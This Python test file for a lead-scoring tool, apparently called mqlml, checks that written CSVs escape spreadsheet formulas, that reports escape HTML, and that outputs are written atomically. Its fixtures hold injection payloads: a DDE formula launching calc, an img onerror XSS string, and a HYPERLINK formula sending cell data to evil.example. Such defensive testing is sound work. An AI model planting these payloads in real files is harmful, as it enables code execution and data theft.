"""Safe outputs: no cell of a written CSV runs as a spreadsheet formula, no level of the
data renders as markup in report.md or report.html, the SQL scorecard gives the YAML's
points on a level holding a line break, and a command's outputs are written together,
never half old and half new, and never over what the command did not create."""

from __future__ import annotations

import csv
import errno
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
from typer.testing import CliRunner

from mqlml.cli import app
from mqlml.errors import ConfigError, DataError, FileError
from mqlml.io._atomic import atomic_folder, atomic_outputs, remove_stale
from mqlml.io._formulas import (
    PLAIN_NUMBER,
    check_csv_formulas,
    escape_array,
    escape_cell,
    escape_table,
)
from mqlml.scoring._file import score_file
from tests.conftest import DATA, leads_config

runner = CliRunner()

#: A column name and a level as an attacker would choose them.
EVIL_COLUMN = "=cmd|'/C calc'!A0"
EVIL_LEVEL = "<img src=x onerror=alert(1)>\n|Referral"
EVIL_IDS = {
    0: "=1+1",
    1: '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    2: "-5",
    3: "@SUM(A1:A9)",
    4: "\tx",
    5: "+1",
    6: "-1+2",
}
RUNS = re.compile(r"^[=+\-@\t\r]")


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _runnable(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would run as formulas (plain numbers are numbers)."""
    return [c for row in rows for c in row if RUNS.match(c) and not re.match(PLAIN_NUMBER, c)]


def _column(rows: list[list[str]], name: str) -> list[str]:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


def _digest(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Leads whose lead source column is named like a formula and whose strongest level
    holds HTML, a pipe and a line break; a logistic bundle trained on them (saved)."""
    from mqlml.leads._synthetic import make_leads
    from mqlml.model._train import train

    frame = make_leads(4000, seed=2, accounts=3).rename(columns={"lead_source": EVIL_COLUMN})
    frame[EVIL_COLUMN] = frame[EVIL_COLUMN].replace({"Referral": EVIL_LEVEL})
    config = leads_config(
        columns={"account": "account_id"},
        model={"kind": "logistic", "refit": False},
        threshold={"target_rate": 0.3},
        baseline={"rules": str(DATA / "rules.yaml")},
        report={"segments": [EVIL_COLUMN]},
    )
    out = tmp_path_factory.mktemp("hostile") / "model"
    return frame, train(config, frame=frame, out=out).bundle


@pytest.fixture
def attack(hostile, tmp_path):
    """A leads file with formula ids, a formula account and a text column to keep."""
    frame = hostile[0].head(400).copy()
    for row, value in EVIL_IDS.items():
        frame.loc[row, "lead_id"] = value
    frame.loc[0, "account_id"] = "=2+2"
    frame["notes"] = ["-12.5", "-x", "=1", "plain"] * 100
    path = tmp_path / "leads.csv"
    frame.to_csv(path, index=False)
    return path


# --- the rule -------------------------------------------------------------------------


def test_escape_cell_quotes_formula_text_and_leaves_numbers():
    cases = {
        "=1+1": "'=1+1",
        "+A1": "'+A1",
        "-x": "'-x",
        "@SUM(A1)": "'@SUM(A1)",
        "\tx": "'\tx",
        "\r=1": "'\r=1",
        "-5": "-5",
        "+1.5": "+1.5",
        "-2e3": "-2e3",
        "-.5": "-.5",
        "- 5": "'- 5",
        "-5-5": "'-5-5",
        "plain": "plain",
        "": "",
        " =1": " =1",
    }
    assert {k: escape_cell(k) for k in cases} == cases
    assert escape_cell(-5) == -5 and escape_cell(None) is None


@pytest.mark.parametrize("kind", [pa.string(), pa.large_string()])
def test_escape_array_is_the_cell_rule_on_every_text_layout(kind):
    values = ["=1", None, "-5", "ok", "@x"]
    want = ["'=1", None, "-5", "ok", "'@x"]
    assert escape_array(pa.array(values, kind)).to_pylist() == want
    assert escape_array(pa.chunked_array([values[:2], values[2:]], kind)).to_pylist() == want
    assert escape_array(pa.array(values, kind).dictionary_encode()).to_pylist() == want
    plain = pa.array(["a", "b"], kind)
    assert escape_array(plain) is plain  # nothing to escape: no copy
    numbers = pa.array([-1.5, 2.0])
    assert escape_array(numbers) is numbers
    table = escape_table(pa.table({"=id": pa.array(values, kind), "x": [-1, 2, 3, 4, 5]}))
    assert table.column_names == ["'=id", "x"]
    assert table.column("'=id").to_pylist() == want and table.column("x").to_pylist()[0] == -1


def test_the_option_has_two_values():
    assert check_csv_formulas("escape") == "escape" and check_csv_formulas("keep") == "keep"
    with pytest.raises(ConfigError, match=r"csv_formulas must be one of escape, keep; got 'no'"):
        check_csv_formulas("no")


# --- scores and accounts ----------------------------------------------------------------


def test_scores_and_accounts_csv_run_no_formula(hostile, attack, tmp_path):
    _, bundle = hostile
    out, accounts = tmp_path / "scores.csv", tmp_path / "accounts.csv"
    summary = score_file(
        bundle, attack, out, reasons="all", keep=["notes", EVIL_COLUMN], accounts=accounts
    )
    rows = _cells(out)
    assert _runnable(rows) == []
    assert "'" + EVIL_COLUMN in rows[0]  # a header cell is a cell
    ids = _column(rows, "lead_id")
    assert ids[:7] == ["'=1+1", "'" + EVIL_IDS[1], "-5", "'@SUM(A1:A9)", "'\tx", "+1", "'-1+2"]
    reasons = _column(rows, "reasons_for") + _column(rows, "reasons_against")
    assert sum(r.startswith("'" + EVIL_COLUMN) for r in reasons) > 10
    assert _column(rows, "notes")[:4] == ["-12.5", "'-x", "'=1", "plain"]
    # numbers stay numbers: negative sub-scores are written as they are
    frame = pd.read_csv(out, dtype={"lead_id": str})
    assert frame["fit_score"].dtype == float and (frame["fit_score"] < 0).any()
    assert not any(c.startswith("'") for c in _column(rows, "fit_score"))
    account_rows = _cells(accounts)
    assert _runnable(account_rows) == []
    assert "'=2+2" in _column(account_rows, "account_id")
    assert summary.accounts["accounts"] == len(account_rows) - 1


def test_keep_writes_the_cells_as_they_are(hostile, attack, tmp_path):
    _, bundle = hostile
    out = tmp_path / "scores.csv"
    score_file(bundle, attack, out, keep=["notes"], csv_formulas="keep")
    ids = _column(_cells(out), "lead_id")
    assert ids[:7] == [EVIL_IDS[i] for i in range(7)]
    parquet = tmp_path / "scores.parquet"  # not a spreadsheet format: never changed
    score_file(bundle, attack, parquet, keep=["notes"])
    assert pd.read_parquet(parquet)["lead_id"].tolist()[:7] == ids[:7]
    with pytest.raises(ConfigError, match=r"csv_formulas must be one of escape, keep; got 'x'"):
        score_file(bundle, attack, tmp_path / "x.csv", csv_formulas="x")
    assert not (tmp_path / "x.csv").exists()


def test_cli_escapes_by_default_and_keeps_on_request(hostile, attack, tmp_path):
    _, bundle = hostile
    args = ["score", "-m", str(bundle.path), "-i", str(attack)]
    done = runner.invoke(app, [*args, "-o", str(tmp_path / "a.csv"), "--json"])
    assert done.exit_code == 0, done.output
    kept = runner.invoke(app, [*args, "-o", str(tmp_path / "b.csv"), "--csv-formulas", "keep"])
    assert kept.exit_code == 0, kept.output
    assert _column(_cells(tmp_path / "a.csv"), "lead_id")[0] == "'=1+1"
    assert _column(_cells(tmp_path / "b.csv"), "lead_id")[0] == "=1+1"
    assert "--csv-formulas" in runner.invoke(app, ["score", "-h"]).output


# --- outputs written together -------------------------------------------------------------


def test_score_and_accounts_appear_together_or_not_at_all(hostile, attack, tmp_path, monkeypatch):
    from mqlml.model._accounts import AccountRollup

    _, bundle = hostile
    out, accounts = tmp_path / "scores.csv", tmp_path / "accounts.csv"
    out.write_text("old scores\n")
    accounts.write_text("old accounts\n")

    def full(self, path, target, csv_formulas="escape"):
        raise FileError(f"file {str(target)!r} must be possible to write; no space left.")

    monkeypatch.setattr(AccountRollup, "write", full)
    with pytest.raises(FileError, match=r"accounts\.csv.*no space left"):
        score_file(bundle, attack, out, accounts=accounts)
    assert out.read_text() == "old scores\n" and accounts.read_text() == "old accounts\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["accounts.csv", "leads.csv", "scores.csv"]
    monkeypatch.undo()
    args = ["score", "-m", str(bundle.path), "-i", str(attack), "-o", str(out)]
    done = runner.invoke(app, [*args, "--accounts", str(accounts), "--json"])
    assert done.exit_code == 0, done.output
    assert json.loads(done.stdout)["accounts"]["output"] == str(accounts)
    assert len(pd.read_csv(out)) == 400 and "account_id" in pd.read_csv(accounts).columns


def test_atomic_outputs_rename_all_or_none(tmp_path):
    a, b = tmp_path / "a.csv", tmp_path / "sub" / "b.csv"
    a.write_text("old\n")
    with pytest.raises(RuntimeError), atomic_outputs(a, b) as (ta, tb):
        ta.write_text("new a\n")
        tb.write_text("new b\n")
        raise RuntimeError("a fault after both were written")
    assert a.read_text() == "old\n" and not b.exists()
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["a.csv", "sub"]
    with atomic_outputs(a, b) as (ta, tb):
        ta.write_text("new a\n")
        tb.write_text("new b\n")
    assert a.read_text() == "new a\n" and b.read_text() == "new b\n"


def test_atomic_folder_swaps_whole_or_leaves_the_old(tmp_path):
    out = tmp_path / "report"
    with atomic_folder(out) as staging:
        (staging / "one.txt").write_text("1\n")
        (staging / "two.txt").write_text("2\n")
    before = _digest(out)
    with pytest.raises(FileError, match=r"report.*no space left"), atomic_folder(out) as staging:
        (staging / "one.txt").write_text("changed\n")
        raise OSError(errno.ENOSPC, "No space left on device")
    assert _digest(out) == before
    with atomic_folder(out) as staging:
        (staging / "one.txt").write_text("new\n")
    assert [p.name for p in out.iterdir()] == ["one.txt"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]


def _dead_pid() -> int:
    done = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"],
        capture_output=True,
        text=True,
        check=True,
    )
    return int(done.stdout)


def test_any_later_run_removes_what_killed_runs_left_in_its_folder(hostile, attack, tmp_path):
    dead, live = _dead_pid(), os.getppid()
    left = tmp_path / f".other.csv.mqlml-partial-{dead}.ab12cd34.tmp"  # a killed score
    left.write_bytes(b"x" * 1000)
    staging = tmp_path / f".report.mqlml-partial-{dead}.ab12cd34.tmp"  # a killed report
    (staging / "inner").mkdir(parents=True)
    running = tmp_path / f".other.csv.mqlml-partial-{live}.ab12cd34.tmp"
    running.write_text("another job still writes this")
    score_file(hostile[1], attack, tmp_path / "scores.csv", reasons="none")
    assert not left.exists() and not staging.exists() and running.exists()
    assert remove_stale(tmp_path / "any") == []


def test_report_folder_is_replaced_whole_or_not_at_all(hostile, tmp_path, monkeypatch):
    from mqlml.report._files import build_report

    frame, bundle = hostile
    out = tmp_path / "report"
    build_report(bundle, frame=frame, out=out, n_boot=20)
    before = _digest(out)
    write = Path.write_text

    def disk_full_at_html(self, *args, **kwargs):
        if self.name == "report.html":
            raise OSError(errno.ENOSPC, "No space left on device")
        return write(self, *args, **kwargs)

    monkeypatch.setattr(Path, "write_text", disk_full_at_html)
    with pytest.raises(FileError, match=r"report.*no space left on the device"):
        build_report(bundle, frame=frame, out=out, n_boot=20)
    monkeypatch.undo()
    assert _digest(out) == before  # json and md were written first, but only in staging
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]


def test_report_and_scorecard_refuse_folders_they_did_not_make(hostile, tmp_path):
    from mqlml.report._files import build_report
    from mqlml.rules._scorecard import scorecard

    frame, bundle = hostile
    model = _digest(bundle.path)
    notes = tmp_path / "notes"
    notes.mkdir()
    (notes / "notes.txt").write_text("mine\n")
    for make, own in ((build_report, "report"), (scorecard, "scorecard")):
        with pytest.raises(DataError, match=r"--out must not be inside the model folder"):
            make(bundle, frame=frame, out=bundle.path / own, n_boot=20)
        with pytest.raises(DataError, match=rf"must be new or a previous {own}; .*'notes\.txt'"):
            make(bundle, frame=frame, out=notes, n_boot=20)
    assert _digest(bundle.path) == model
    assert (notes / "notes.txt").read_text() == "mine\n" and len(list(notes.iterdir())) == 1


# --- markup in reports --------------------------------------------------------------------


def _pipes(line: str) -> int:
    return len(re.findall(r"(?<!\\)\|", line))


def test_report_escapes_levels_in_markdown_and_html(hostile, tmp_path):
    from mqlml.report._files import build_report

    frame, bundle = hostile
    _, paths = build_report(bundle, frame=frame, out=tmp_path / "report", n_boot=20)
    md = paths["markdown"].read_text()
    assert "<img" not in md and "onerror=alert(1)&gt;" in md
    assert "&lt;img src=x onerror=alert(1)&gt; \\|Referral" in md
    lines = md.splitlines()
    table = [line for line in lines if line.startswith("|")]
    # every row of a table has as many cell borders as its header
    blocks, current = [], []
    for line in [*lines, ""]:
        if line.startswith("|"):
            current.append(_pipes(line))
        elif current:
            blocks.append(current)
            current = []
    assert table and all(len(set(block)) == 1 for block in blocks), blocks
    page = paths["html"].read_text()
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page


# --- the scorecard ------------------------------------------------------------------------


def test_scorecard_sql_csv_and_markdown_on_hostile_levels(hostile, tmp_path):
    duckdb = pytest.importorskip("duckdb")
    from mqlml.rules._baseline import PointsBaseline, load_rules
    from mqlml.rules._scorecard import scorecard

    frame, bundle = hostile
    card = scorecard(bundle, frame=frame, max_rules=12, n_boot=20, out=tmp_path / "card")
    values = [r.value for r in card.rules.rules if r.column == EVIL_COLUMN]
    flat = [v for value in values for v in (value if isinstance(value, list) else [value])]
    assert EVIL_LEVEL in flat  # the level with a line break is a criterion
    yaml_points = PointsBaseline(rules=load_rules(card.paths["yaml"])).fit(frame)
    expected = yaml_points.decision_function(frame)
    con = duckdb.connect()
    con.register("leads", frame)
    query = card.paths["sql"].read_text().rstrip().rstrip(";")
    scored = con.execute(query).fetchdf()
    assert scored["lead_id"].tolist() == frame["lead_id"].tolist()
    evil = (frame[EVIL_COLUMN] == EVIL_LEVEL).to_numpy()
    assert evil.sum() > 100
    np.testing.assert_array_equal(scored["points"].to_numpy(dtype=float), expected)
    rows = _cells(card.paths["csv"])
    assert _runnable(rows) == [] and "'" + EVIL_COLUMN in _column(rows, "column")
    md = card.paths["markdown"].read_text()
    assert "<img" not in md and "&lt;img src=x" in md
    criteria = [line for line in md.splitlines() if line.startswith("| ") and "|---" not in line]
    assert criteria and {_pipes(line) for line in criteria[: card.n_criteria + 1]} == {4}
    kept = card.to_csv("keep")
    assert f"\n{EVIL_COLUMN}" in kept or f'"{EVIL_COLUMN}' in kept


def test_sql_indents_rules_never_quoted_values():
    duckdb = pytest.importorskip("duckdb")
    from mqlml.rules._baseline import PointsBaseline, parse_rules
    from mqlml.rules._sql import sql_query

    levels = ["two\nlines", "  padded\n  both  ", "crlf\r\nend", "plain"]
    rules = parse_rules(
        {
            "mql_threshold": 10,
            "rules": [
                {"name": "a", "column": "source", "op": "in", "value": levels[:2], "points": 15},
                {"name": "b", "column": "source", "op": "==", "value": levels[2], "points": 7},
                {"name": "c", "column": "visits", "op": ">=", "value": 2, "points": 3},
            ],
        }
    )
    frame = pd.DataFrame({"id": [1, 2, 3, 4], "source": levels, "visits": [0, 2, 5, 1]})
    expected = PointsBaseline(rules=rules).fit(frame).decision_function(frame)
    assert expected.tolist() == [15.0, 18.0, 10.0, 0.0]
    con = duckdb.connect()
    con.register("leads", frame)
    got = con.execute(sql_query(rules, "leads", id_column="id")).fetchdf()
    np.testing.assert_array_equal(got["points"].to_numpy(dtype=float), expected)


# --- recalibrate --out ----------------------------------------------------------------------


def test_recalibrate_replaces_an_existing_out_only_with_force(hostile, tmp_path):
    from mqlml.leads._synthetic import make_leads
    from mqlml.monitoring._recalibrate import recalibrate

    _, bundle = hostile
    recent = make_leads(3000, seed=8, accounts=3, start="2026-01-01", days=120)
    recent = recent.rename(columns={"lead_source": EVIL_COLUMN})
    data = tmp_path / "recent.csv"
    recent.to_csv(data, index=False)
    out = tmp_path / "model-v2"
    shutil.copytree(bundle.path, out)  # an earlier bundle of that name
    before = _digest(out)
    with pytest.raises(DataError, match=r"--out must not exist yet; .*model-v2.*--force"):
        recalibrate(bundle.path, recent, out=out)
    assert _digest(out) == before
    args = ["recalibrate", "-m", str(bundle.path), "-d", str(data), "--out", str(out)]
    refused = runner.invoke(app, args)
    assert refused.exit_code == 2, refused.output
    assert "--out must not exist yet" in " ".join(refused.output.split())
    assert _digest(out) == before
    forced = runner.invoke(app, [*args, "--force", "--json"])
    assert forced.exit_code == 0, forced.output
    assert json.loads(forced.stdout)["written"]
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["metadata"]["parent"]["path"] == str(bundle.path)
    said = " ".join(runner.invoke(app, ["recalibrate", "-h"]).output.split())
    assert "replace an existing --out" in said


def test_force_never_lets_init_or_sample_replace_an_input_or_write_into_a_bundle(trained, tmp_path):
    from typer.testing import CliRunner

    from mqlml.cli import app
    from mqlml.model._bundle import copy_bundle

    runner = CliRunner()
    leads = tmp_path / "leads.csv"
    assert runner.invoke(app, ["sample", "--rows", "300", "--out", str(leads)]).exit_code == 0
    before = leads.read_bytes()
    done = runner.invoke(app, ["init", "--data", str(leads), "--out", str(leads), "--force"])
    assert done.exit_code == 2 and "--out must not be the input" in done.output
    assert leads.read_bytes() == before
    bundle = copy_bundle(trained.path, tmp_path / "model")
    target = bundle / "model.txt"
    text = target.read_bytes()
    done = runner.invoke(app, ["sample", "--rows", "10", "--out", str(target), "--force"])
    assert done.exit_code == 2 and "bundle" in done.output
    assert target.read_bytes() == text
